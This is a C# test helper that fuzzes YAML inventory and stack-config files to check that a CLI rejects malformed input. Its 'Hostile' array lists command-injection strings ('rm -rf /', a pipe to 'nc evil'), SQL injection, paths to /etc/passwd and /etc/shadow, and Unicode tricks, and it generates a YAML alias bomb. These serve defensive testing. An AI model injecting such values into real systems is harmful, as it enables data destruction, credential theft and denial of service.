using System.Text;

namespace EdgeInfra.Tests.Cli.BadInput;

/// <summary>One damaged copy of an input file: which file, what was done to it, and the text that results.</summary>
/// <param name="MustRefuse">The damage can never be a valid input (a duplicate key, a megabyte value, an alias cycle or
/// bomb): the run must end in exit 2, not in a valid run.</param>
internal sealed record DamagedInput(string File, string Kind, string Text, bool MustRefuse = false)
{
    public override string ToString() => $"{Kind} in {File}: {Excerpt}";

    private string Excerpt => Text.Length > 400 ? Text[..400] + $"… ({Text.Length:N0} chars)" : Text;
}

/// <summary>Damages an inventory, a stack config or its overrides the way a hand (or a bad merge) can: syntax, types,
/// ranges, duplicates, unknown references and hostile strings.</summary>
internal static class InputDamage
{
    /// <summary>Values that must never reach a shell, a path, a label or a commit message unescaped.</summary>
    public static readonly string[] Hostile =
    [
        "$(touch /tmp/edgeinfra-pwned)", "`id`", "a; rm -rf /", "a && reboot", "a | nc evil 1", "'; DROP TABLE s; --",
        "../../../../etc/passwd", "..", "/etc/shadow", "a/../../b", "C:\\Windows\\System32",
        "\"a\\nEdge-Actor: mallory\"", "\"line1\\r\\nline2\"", "\"tab\\there\"", "\"nul\\0byte\"", "\"bell\\a\"", "\"esc\\e[31m\"",
        "\"zero\\u200Bwidth\"", "\"bidi\\u202Eevil\"", "\"bom\\uFEFF\"", "\"nbsp\\u00A0x\"", "\"\\U0001F4A3\"",
        "*undefined", "&a [*a]", "!!binary aGk=", "!custom x", "%TAG", "@at", "{", "[", "}", "]", "? complex", "|", ">",
        "null", "~", "true", "false", "yes", "-1", "0", "1e309", "-0.0", ".nan", "99999999999999999999", "0x1F", "1_000",
        "\"\"", "' '", "\"   \"", "2.4.1 beta", "v", "2.4", "01.2.3", "1.2.3-", "2.5.0+meta",
        "Europe..Budapest", "posixrules", "right.Europe.Budapest", "Etc.GMT+5", "UTC", "25-26", "02-05-07", "9-5",
        "store-budapest", "retail-region-1", "eu-central", "pos-app", "nonexistent-ring", "NoSuchZone", "0%", "101%", "-10%",
        "[]", "{}", "[a, b]", "{a: 1}",
    ];

    public static DamagedInput Apply(int kind, string file, string text, Random random) => (kind % 14) switch
    {
        0 => new(file, "insert a YAML indicator", Insert(text, random, "[]{}:,&*!|>'\"%@`#-?\t".Substring(random.Next(20), 1))),
        1 => new(file, "delete a line", WithLines(text, random, (lines, i) => lines.RemoveAt(i))),
        2 => DuplicateLine(file, text, random),
        3 => new(file, "shift indentation", WithLines(text, random, (lines, i) => lines[i] = random.Next(2) == 0 ? " " + lines[i] : lines[i].TrimStart(' '))),
        4 => new(file, "truncate", text[..random.Next(text.Length)]),
        5 or 6 or 7 => new(file, "hostile value", ReplaceValue(text, random, Hostile[random.Next(Hostile.Length)])),
        8 => new(file, "megabyte value", ReplaceValue(text, random, new string('x', 1 << 20)), MustRefuse: true),
        9 => Bomb(file, text, random),
        10 => new(file, "self-referencing alias", ReplaceValue(text, random, random.Next(2) == 0 ? "&loop [*loop]" : "&loop {a: *loop}"), MustRefuse: true),
        11 => new(file, "type change", ReplaceValue(text, random, new[] { "[]", "{}", "[1, 2]", "{k: v}", "null", "42", "-1", "true" }[random.Next(8)])),
        12 => new(file, "duplicate a block", WithLines(text, random, (lines, i) => lines.InsertRange(i, lines.Skip(i).Take(random.Next(2, 14)).ToList()))),
        _ => new(file, "control character", Insert(text, random, ((char)new[] { 0, 1, 7, 8, 11, 12, 27, 127, 0x85, 0x2028, 0x200B, 0x202E, 0xFEFF }[random.Next(13)]).ToString())),
    };

    /// <summary>A repeated <c>key: …</c> line is a duplicate key, never valid; a repeated list item can be.</summary>
    private static DamagedInput DuplicateLine(string file, string text, Random random)
    {
        var isKey = false;
        var damaged = WithLines(text, random, (lines, i) =>
        {
            isKey = !lines[i].TrimStart().StartsWith('-') && lines[i].Contains(':', StringComparison.Ordinal);
            lines.Insert(i, lines[i]);
        });
        return new(file, isKey ? "duplicate a key line" : "duplicate a list item", damaged, MustRefuse: isKey);
    }

    private static DamagedInput Bomb(string file, string text, Random random)
    {
        // From depth 6 (9^5 copies of the leaf list) the expansion is past any bound a valid file needs.
        var depth = random.Next(3, 10);
        return new(file, $"alias bomb of depth {depth}", ReplaceValue(text, random, AliasBomb(depth)), MustRefuse: depth >= 6);
    }

    /// <summary>A flow-style "billion laughs" of the given depth, written as one value.</summary>
    public static string AliasBomb(int depth)
    {
        var text = new StringBuilder("[&l0 [x, x, x, x, x, x, x, x, x]");
        for (var i = 1; i < depth; i++) text.Append($", &l{i} [{string.Join(", ", Enumerable.Repeat($"*l{i - 1}", 9))}]");
        return text.Append(']').ToString();
    }

    private static string Insert(string text, Random random, string what)
    {
        var at = random.Next(text.Length + 1);
        return text[..at] + what + text[at..];
    }

    private static string WithLines(string text, Random random, Action<List<string>, int> change)
    {
        var lines = text.Split('\n').ToList();
        var candidates = Enumerable.Range(0, lines.Count).Where(i => lines[i].Trim().Length > 0 && !lines[i].TrimStart().StartsWith('#')).ToList();
        if (candidates.Count == 0) return text;
        change(lines, candidates[random.Next(candidates.Count)]);
        return string.Join('\n', lines);
    }

    /// <summary>Replaces the value of one <c>key: value</c> line (or one list item) with <paramref name="value"/>.</summary>
    private static string ReplaceValue(string text, Random random, string value) => WithLines(text, random, (lines, i) =>
    {
        var line = lines[i];
        var colon = line.IndexOf(": ", StringComparison.Ordinal);
        var dash = line.TrimStart().StartsWith("- ", StringComparison.Ordinal) ? line.IndexOf("- ", StringComparison.Ordinal) : -1;
        if (colon > 0) lines[i] = line[..(colon + 2)] + value;
        else if (dash >= 0) lines[i] = line[..(dash + 2)] + value;
        else if (line.TrimEnd().EndsWith(':')) lines[i] = line.TrimEnd() + " " + value;
        else lines[i] = line + value;
    });
}
